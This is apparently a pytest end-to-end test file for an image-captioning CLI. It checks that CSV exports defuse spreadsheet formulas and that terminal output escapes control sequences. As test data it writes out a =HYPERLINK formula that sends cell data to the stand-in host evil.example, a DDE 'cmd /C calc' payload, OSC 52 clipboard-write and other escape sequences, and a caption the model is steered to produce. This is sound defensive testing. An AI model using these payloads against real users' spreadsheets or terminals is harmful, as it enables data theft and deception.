"""What a bucket or the model can smuggle into what captioner prints or exports: escape
sequences for the terminal, formulas for the spreadsheet. Through the real upload function
(a caption the model was steered to write) and the CLI a person runs afterwards."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from captioner_dev.eventarc import binary_event
from captioner_dev.functions import FunctionServer
from tests import images
from tests.e2e.test_cli import run_cli
from tests.e2e.test_upload_function import deliver, resource
from tests.objects import metadata, upload

pytestmark = pytest.mark.slow

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A2,"Open the photo")'
# Window title, clear screen, clipboard write (OSC 52), hidden text, a C1 CSI, bidi override.
ESCAPES = ["\x1b]0;pwned\x07", "\x1b[2J", "\x1b]52;c;ZXZpbA==\x07", "\x1b[8m", "\x9b31m", "\u202e"]
OBEYED = {"\x1b", "\x07", "\x9b", "\u202e"}


@pytest.fixture(scope="module")
def upload_function(gcs: Any, gemini_thread: Any) -> Iterator[FunctionServer]:
    env = {
        "STORAGE_EMULATOR_HOST": gcs.url,
        "GOOGLE_GEMINI_BASE_URL": gemini_thread.base_url,
        "GEMINI_API_KEY": "k",
    }
    with FunctionServer("caption_on_upload", env=env, signature_type="cloudevent") as server:
        yield server


def test_a_formula_the_model_was_steered_to_write_is_exported_as_text(
    gcs: Any, bucket: Any, gemini: Any, upload_function: FunctionServer,
    stack_env: dict[str, str], tmp_path: Path,
) -> None:  # fmt: skip
    answer = {"caption": HYPERLINK, "alt_text": "+1+cmd|' /C calc'!A0", "tags": ["-2+3", "@x"]}
    gemini.add_fault("custom_text", text=json.dumps(answer))
    upload(bucket, "steered.jpg", images.photo("coffee.jpg"), metadata={"note": "@SUM(1)"})
    response = deliver(upload_function, *binary_event(resource(gcs, bucket.name, "steered.jpg")))
    assert response.status_code == 200, response.text
    assert metadata(bucket, "steered.jpg")["caption"] == HYPERLINK  # stored as written

    out = tmp_path / "captions.csv"
    done = run_cli(stack_env, "export", f"gs://{bucket.name}/", "--format", "csv", "-o", str(out))
    assert done.returncode == 0, done.stderr
    with out.open(newline="", encoding="utf-8") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["caption"] == "'" + HYPERLINK
    assert row["alt"].startswith("'+")
    assert row["tags"].startswith("'-2+3")
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    jsonl = run_cli(stack_env, "export", f"gs://{bucket.name}/")
    assert json.loads(jsonl.stdout)["caption"] == HYPERLINK  # data, for programs: as is


def test_names_and_metadata_with_escape_sequences_are_shown_escaped(
    bucket: Any, gemini: Any, stack_env: dict[str, str], tmp_path: Path
) -> None:
    names = [f"esc/{seq}photo{i}.jpg" for i, seq in enumerate(ESCAPES)]
    for name in names:
        upload(bucket, name, images.photo("coffee.jpg"),
               metadata={"note": "\x1b]52;c;ZXZpbA==\x07owner's \x9b words"})  # fmt: skip
    for command in (
        ["show", *(f"gs://{bucket.name}/{n}" for n in names)],
        ["show", "--json", *(f"gs://{bucket.name}/{n}" for n in names)],
        ["backfill", f"gs://{bucket.name}/esc/", "--dry-run"],
        ["backfill", f"gs://{bucket.name}/esc/", "--dry-run", "--json"],
        ["export", f"gs://{bucket.name}/esc/"],
    ):
        done = run_cli(stack_env, *command)
        assert done.returncode in (0, 1), done.stderr
        assert done.stdout.strip(), command
        assert not set(done.stdout + done.stderr) & OBEYED, (command, done.stdout)
    shown = run_cli(stack_env, "show", f"gs://{bucket.name}/{names[0]}")
    assert "\\x1b]0;pwned\\x07" in shown.stdout  # visible, as an escape
    as_json = run_cli(stack_env, "show", "--json", f"gs://{bucket.name}/{names[4]}")
    assert json.loads(as_json.stdout)["source"] == f"gs://{bucket.name}/{names[4]}"  # same text

    folder = tmp_path / "photos"
    folder.mkdir()
    (folder / "\x1b]0;pwned\x07cat.jpg").write_bytes(images.photo("chelsea.jpg"))
    described = run_cli(stack_env, "describe", str(folder))
    assert described.returncode == 0, described.stderr
    assert not set(described.stdout + described.stderr) & OBEYED
    assert "\\x1b]0;pwned\\x07cat.jpg" in described.stdout
    missing = run_cli(stack_env, "describe", str(folder / "\x1b[2Jnothing.jpg"))
    assert missing.returncode == 2
    assert "\x1b" not in missing.stderr
